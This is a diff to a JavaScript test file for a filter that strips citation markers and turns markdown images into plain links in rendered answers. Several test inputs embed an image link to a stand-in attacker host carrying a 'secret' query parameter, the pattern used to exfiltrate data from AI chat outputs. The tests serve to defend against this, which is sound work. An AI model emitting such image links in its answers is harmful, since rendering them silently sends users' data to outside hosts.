@@ -13,7 +13,7 @@ test.each([
   ['The sky is blue [1, 9] and wide [2,3].', 'The sky is blue [1] and wide [2][3].'],
   ['Zero [0] and minus [-1] and far [99999999999999999999].', 'Zero and minus [-1] and far.'],
   ['Not a citation: [1a], [], [ ], [note].', 'Not a citation: [1a], [], [ ], [note].'],
-  ['Wow![1]', 'Wow![1]'],
+  ['Wow![1]', 'Wow! [1]'],
   ['Nested [4[9]] and [1[2]].', 'Nested (4] and (1[2]].'],
   ['Twice [2][2] [2, 2]', 'Twice [2][2] [2]'],
 ])('of three sources, "%s" shows as "%s"', (written, shown) => {
@@ -25,8 +25,24 @@ test('code keeps its brackets, and a stray backtick ends with its line', () => {
   expect(filtered('A stray ` here\nand [9] there', 3)).toBe('A stray ` here\nand there')
 })
 
-test('an image becomes a link, so that showing the answer asks nobody for anything', () => {
-  expect(filtered('See ![chart](http://evil.example/?q=secret).', 1)).toBe('See [chart](http://evil.example/?q=secret).')
+test.each([
+  ['See ![chart](http://evil.example/?q=secret).', 'See ! [chart](http://evil.example/?q=secret).'],
+  ['![1](http://evil.example)', '! [1](http://evil.example)'],
+  ['!![a](u)', '!! [a](u)'],
+  ['![9][a](u)', '! [a](u)'],
+  ['a ``` b ![a](u)', 'a ``` b ! [a](u)'],
+])('an image becomes a link, so that showing the answer asks nobody for anything: %s', (written, shown) => {
+  expect(filtered(written, 1)).toBe(shown)
+})
+
+test('no answer holds an image, wherever it is cut into pieces', () => {
+  const bit = fc.constantFrom('!', '[', '![', ']', '(u)', '9', '[9]', '`', '```', '\n', ' ', 'a', '\\')
+  fc.assert(
+    fc.property(fc.array(bit, { maxLength: 30 }), (bits) => {
+      expect(filtered(bits.join(''), 1, bits)).not.toContain('![')
+    }),
+    { numRuns: 3000 },
+  )
 })
 
 test('an answer shows the same wherever it is cut into pieces', () => {
